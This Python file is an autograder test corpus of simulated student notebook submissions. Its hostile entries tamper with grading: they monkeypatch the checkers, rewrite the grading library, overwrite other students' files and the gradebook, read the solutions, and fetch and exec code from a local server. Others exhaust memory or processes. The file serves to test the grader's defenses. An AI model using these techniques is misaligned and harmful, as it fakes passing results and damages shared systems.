"""Submissions of the tiny assignment (tests/adversarial/tiny.py), honest and hostile, each with the
score every graded cell must get when the whole class is graded in one `make grade` run.

`build(solution, release, ctx)` returns the submitted notebook (None: nothing submitted; a str: the
file's raw text). ctx: `root` (the course root, for cheats that attack files), `port` (a TCP server
on the grading host's loopback that serves a correct answer: only a kernel with network reaches it).
Honest students must keep their grade whatever the others do.
"""

from __future__ import annotations

import copy
import dataclasses
from collections.abc import Callable
from typing import Any

from tiny import POINTS

FULL = dict(POINTS)


def scores(t1: float, t2: float, t3: float) -> dict[str, float]:
    return {"t1-units-tests": t1, "t2-pairs-tests": t2, "t3-merge-tests": t3}


@dataclasses.dataclass
class Submission:
    name: str
    build: Callable[[Any, Any, dict], Any]
    expected: dict[str, float]
    honest: bool = False
    needs_sandbox: bool = False  # the expected score holds only with bubblewrap
    says: str = ""  # text the student's log or a cell's output must contain


def _cell(nb, grade_id: str):
    return next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


def answer(grade_id: str, source: str, base: str = "solution") -> Callable:
    """A submission: the solution (or the release) with one answer cell's source replaced."""

    def build(sol, rel, ctx):
        nb = copy.deepcopy(sol if base == "solution" else rel)
        text = source
        for key, value in ctx.items():
            text = text.replace("{" + key + "}", str(value))
        _cell(nb, grade_id).source = text
        return nb

    return build


def edit(fn: Callable) -> Callable:
    def build(sol, rel, ctx):
        nb = copy.deepcopy(sol)
        fn(nb, ctx)
        return nb

    return build


PAIRS_OK = """\
def get_pair_counts(ids, counts=None):
    counts = {} if counts is None else counts
    for pair in zip(ids, ids[1:]):
        counts[pair] = counts.get(pair, 0) + 1
    return counts
"""

MERGE_WRONG = "def merge(ids, pair, new_id):\n    return list(ids)\n"
UNITS_WRONG = "def units_that_fit(context_len, sample_tokens, sample_units):\n    return 0\n"


PATCH_CHECKERS = (
    "import labkit.grading as lg, labkit.grading.checks as lc\n"
    "for m in (g, lg, lc):\n    m.check_function = m.check_value = m.check_class = lambda *a, **k: None\n"
)
PATCH_COMPARISON = (
    "import labkit.grading.checks as lc, labkit.grading.compare as cmp\n"
    "lc._compare = cmp._compare = lambda *a, **k: None\n"
)
BLANK_TEST_CELLS = (
    "get_ipython().input_transformers_cleanup.append(\n"
    "    lambda lines: ['pass\\n'] if any('check_' in l for l in lines) else lines)\n"
)


def wrong_after(cheat: str) -> Callable:
    """A submission: `cheat` run in task 1's answer cell, then wrong answers to tasks 1 and 3."""

    def build(sol, rel, ctx):
        nb = copy.deepcopy(sol)
        _cell(nb, "t1-units").source = cheat + UNITS_WRONG
        _cell(nb, "t3-merge").source = MERGE_WRONG
        return nb

    return build


def _delete_task2(nb, ctx):
    nb.cells = [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") not in
                ("t2-pairs", "t2-pairs-tests")]  # fmt: skip


def _edit_test_cell(nb, ctx):
    _cell(nb, "t3-merge").source = MERGE_WRONG
    _cell(nb, "t3-merge-tests").source = "pass\n"


def _solution_flag_on_setup(nb, ctx):
    setup = _cell(nb, "setup")
    setup.metadata["nbgrader"].update(solution=True, locked=False)
    setup.source = (
        "class _NoCheck:\n    def __getattr__(self, name):\n        return lambda *a, **k: None\n"
        "g = _NoCheck()\nfrom labkit import tokenizer as lt\nfrom labkit import tokenizer_zoo as zoo\n"
    )
    _cell(nb, "t1-units").source = UNITS_WRONG


def _points_tamper(nb, ctx):
    _cell(nb, "t1-units-tests").metadata["nbgrader"]["points"] = 100
    _cell(nb, "t2-pairs-tests").metadata["nbgrader"]["points"] = 50


def _honest_extra_cells(nb, ctx):
    import nbformat

    at = nb.cells.index(_cell(nb, "t3-merge"))
    helper = "_expected = 1\nreference = 2\ncases = 3\ncheck = 4\n\ndef _skip(i):\n    return i + 2\n"
    nb.cells.insert(at, nbformat.v4.new_code_cell(helper))
    _cell(nb, "t3-merge").source = (
        "def merge(ids, pair, new_id):\n    out, i = [], 0\n    while i < len(ids):\n"
        "        if i + 1 < len(ids) and (ids[i], ids[i + 1]) == pair:\n"
        "            out.append(new_id)\n            i = _skip(i)\n        else:\n"
        "            out.append(ids[i])\n            i += 1\n"
        "    assert (_expected, reference, cases, check) == (1, 2, 3, 4), 'helpers replaced'\n    return out\n"
    )


CORPUS = [
    # --- honest students -------------------------------------------------------------------------
    Submission("honest-full", lambda sol, rel, ctx: copy.deepcopy(sol), FULL, honest=True),
    Submission("honest-empty", lambda sol, rel, ctx: copy.deepcopy(rel), scores(0, 0, 0), honest=True),
    Submission(
        "honest-partial",
        answer("t2-pairs", "def get_pair_counts(ids, counts=None):\n    return {p: 1 for p in zip(ids, ids[1:])}\n"),
        scores(1, 0, 2),
        honest=True,
    ),  # fmt: skip
    Submission(
        "honest-stderr",  # logging, warnings and prints to stderr from a correct answer cost nothing
        answer(
            "t2-pairs",
            "import logging, sys, warnings\nlogging.basicConfig(level=logging.DEBUG)\n"
            "log = logging.getLogger('mine')\n"
            + PAIRS_OK.replace(
                "    return counts\n",
                "    log.warning('counted %d', len(counts))\n"
                "    warnings.warn('a warning')\n    print('debug', file=sys.stderr)\n    return counts\n",
            )
            + "log.info('defined')\nprint('top-level debug', file=sys.stderr)\n",
        ),
        FULL,
        honest=True,
    ),  # fmt: skip
    Submission("honest-extra-cells", edit(_honest_extra_cells), FULL, honest=True),
    # --- a submission that stops or crashes its kernel -------------------------------------------
    Submission(
        "os-exit", answer("t2-pairs", PAIRS_OK + "import os\nos._exit(0)\n"), scores(1, 0, 2), says="the kernel died"
    ),  # fmt: skip
    Submission("ipython-exit", answer("t2-pairs", PAIRS_OK + "exit()\n"), FULL),  # defined before exit()
    Submission("ipython-exit-first", answer("t2-pairs", "exit()\n" + PAIRS_OK), scores(1, 0, 2)),
    Submission(
        "segfault", answer("t2-pairs", "import ctypes\nctypes.string_at(0)\n" + PAIRS_OK), scores(1, 0, 2)
    ),  # fmt: skip
    Submission(
        "loop-ignoring-sigint",
        answer("t2-pairs", "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass\n"),
        scores(1, 0, 2),
        says="ran longer than",
    ),  # fmt: skip
    Submission(
        "loop-inside-check",  # blocks the check's own timer, then loops
        answer(
            "t3-merge",
            "import signal\ndef merge(ids, pair, new_id):\n"
            "    signal.signal(signal.SIGALRM, signal.SIG_IGN)\n    signal.setitimer(signal.ITIMER_REAL, 0)\n"
            "    while True:\n        try:\n            pass\n        except BaseException:\n            pass\n",
        ),
        scores(1, 2, 0),
    ),  # fmt: skip
    Submission("syntax-error", answer("t1-units", "def units_that_fit(a, b, c)\n    return a\n"), scores(0, 2, 2)),
    Submission(
        "memory-bomb",
        answer("t2-pairs", "hoard = []\nwhile True:\n    hoard.append(bytearray(1 << 28))\n" + PAIRS_OK),
        scores(1, 0, 2),
    ),
    Submission(
        "500-processes",
        answer(
            "t2-pairs",
            "import os, time\nfor _ in range(500):\n    if os.fork() == 0:\n"
            "        time.sleep(60)\n        os._exit(0)\n" + PAIRS_OK,
        ),
        scores(1, 0, 2),
        needs_sandbox=True,
    ),  # fmt: skip
    Submission(
        "100mb-output",
        answer(
            "t1-units",
            "for _ in range(100):\n    print('x' * (1 << 20))\n"
            "def units_that_fit(context_len, sample_tokens, sample_units):\n"
            "    return context_len * sample_units // sample_tokens\n",
        ),
        FULL,
    ),  # fmt: skip
    # --- editing what grades it ------------------------------------------------------------------
    Submission("deleted-task-cells", edit(_delete_task2), scores(1, 0, 2)),
    Submission("edited-test-cell", edit(_edit_test_cell), scores(1, 2, 0)),
    Submission("solution-flag-on-locked-cell", edit(_solution_flag_on_setup), scores(0, 2, 2)),
    Submission("points-above-the-cell", edit(_points_tamper), FULL),
    Submission("not-a-notebook", lambda sol, rel, ctx: "this is not JSON {", scores(0, 0, 0)),
    Submission("nothing-submitted", lambda sol, rel, ctx: None, scores(0, 0, 0)),
    # --- reaching outside the kernel -------------------------------------------------------------
    Submission(
        "network-socket",  # fetches a correct merge from a server on the grading host
        answer(
            "t3-merge",
            "import urllib.request\n"
            "exec(urllib.request.urlopen('http://127.0.0.1:{port}/', timeout=5).read().decode())\n",
        ),
        scores(1, 2, 0),
        needs_sandbox=True,
    ),  # fmt: skip
    Submission(
        "write-other-student",  # overwrites an honest student's submission, executed copy and the gradebook
        answer(
            "t1-units",
            "import glob, os\nfor p in (glob.glob('{root}/autograder/*/honest-full/lab0.1/*.ipynb')\n"
            "          + ['{root}/autograder/gradebook.db']):\n"
            "    try:\n        open(p, 'w').write('x')\n    except OSError:\n        pass\n"
            "def units_that_fit(context_len, sample_tokens, sample_units):\n"
            "    return context_len * sample_units // sample_tokens\n",
        ),
        FULL,
        needs_sandbox=True,
    ),  # fmt: skip
    Submission(
        "read-solutions",  # runs the instructor's solution cell read from solutions/
        answer(
            "t2-pairs",
            "import json\nnb = json.load(open('{root}/solutions/lab0.1/00_tiny.ipynb'))\n"
            "exec(''.join(next(c['source'] for c in nb['cells'] if 'get_pair_counts' in ''.join(c['source']))))\n",
        ),
        scores(1, 0, 2),
        needs_sandbox=True,
    ),  # fmt: skip
    Submission(
        "rewrite-grading-on-disk",  # makes every check pass for everyone, then answers nothing right
        edit(
            lambda nb, ctx: [
                setattr(
                    _cell(nb, "t1-units"),
                    "source",
                    "import labkit.grading.checks as c\ntry:\n"
                    "    open(c.__file__, 'a').write('\\ncheck_function = check_value = lambda *a, **k: None\\n')\n"
                    "except OSError:\n    pass\n" + UNITS_WRONG,
                ),
                setattr(_cell(nb, "t3-merge"), "source", MERGE_WRONG),
            ]
        ),
        scores(0, 2, 0),
        needs_sandbox=True,
    ),  # fmt: skip
    # --- changing what judges it (the test cells are judged outside the kernel) -------------------
    Submission("monkeypatch-checkers", wrong_after(PATCH_CHECKERS), scores(0, 2, 0)),
    Submission("monkeypatch-comparison", wrong_after(PATCH_COMPARISON), scores(0, 2, 0)),  # all compare equal
    Submission("input-transformer", wrong_after(BLANK_TEST_CELLS), scores(0, 2, 0)),  # test cells become `pass`
    Submission(
        "expected-from-stack-frame",  # looks for the reference's result in its callers' frames
        answer(
            "t3-merge",
            "import inspect\ndef merge(ids, pair, new_id):\n"
            "    f = inspect.currentframe().f_back\n    while f is not None:\n"
            "        ref = f.f_locals.get('ref')\n        if getattr(ref, 'value', None) is not None:\n"
            "            return ref.value\n        f = f.f_back\n    return list(ids)\n",
        ),
        scores(1, 2, 0),
    ),  # fmt: skip
    Submission(
        "calls-the-reference",
        answer(
            "t3-merge",
            "from labkit import tokenizer\ndef merge(ids, pair, new_id):\n"
            "    return tokenizer.merge(ids, pair, new_id)\n",
        ),
        scores(1, 2, 0),
        says="the reference this task is checked against",
    ),  # fmt: skip
    Submission(
        "pins-the-seed",  # a fixed seed from the environment would let it learn the hidden cases
        answer("t1-units", "import os\nos.environ['LABKIT_GRADING_SEED'] = '1'\n" + UNITS_WRONG),
        scores(0, 2, 2),
    ),  # fmt: skip
    Submission(
        "kills-the-link",  # removes the helper the grader calls into the kernel with
        answer("t2-pairs", PAIRS_OK + "del _labkit_serve\n"),
        scores(1, 0, 0),
    ),  # fmt: skip
    Submission(
        "clones-the-reference-code",  # a new function object around the reference's code object
        answer(
            "t3-merge",
            "import types\nfrom labkit import tokenizer\n"
            "merge = types.FunctionType(tokenizer.merge.__code__, tokenizer.__dict__, 'merge')\n",
        ),
        scores(1, 2, 0),
        says="the reference this task is checked against",
    ),  # fmt: skip
    Submission(
        "getsource-exec",  # the reference's source compiled again
        answer("t3-merge", "import inspect\nfrom labkit import tokenizer\nexec(inspect.getsource(tokenizer.merge))\n"),
        scores(1, 2, 0),
        says="the reference this task is checked against",
    ),  # fmt: skip
    Submission(
        "second-import",  # a fresh copy of labkit.tokenizer, loaded from its file under another name
        answer(
            "t3-merge",
            "import importlib.util, labkit.tokenizer\n"
            "spec = importlib.util.spec_from_file_location('tok2', labkit.tokenizer.__file__)\n"
            "tok2 = importlib.util.module_from_spec(spec)\nspec.loader.exec_module(tok2)\nmerge = tok2.merge\n",
        ),
        scores(1, 2, 0),
        says="the reference this task is checked against",
    ),  # fmt: skip
    Submission(
        "copies-the-reference",  # renamed variables, same bytecode: caught when it runs, and reported
        lambda sol, rel, ctx: answer("t3-merge", _renamed_reference_merge())(sol, rel, ctx),
        scores(1, 2, 0), says="(a copy of it)",
    ),
]


def _renamed_reference_merge() -> str:
    import inspect

    from labkit import tokenizer

    source = inspect.getsource(tokenizer.merge)
    for old, new in (("ids", "seq"), ("pair", "pr"), ("new_id", "token")):
        source = source.replace(old, new)
    return source
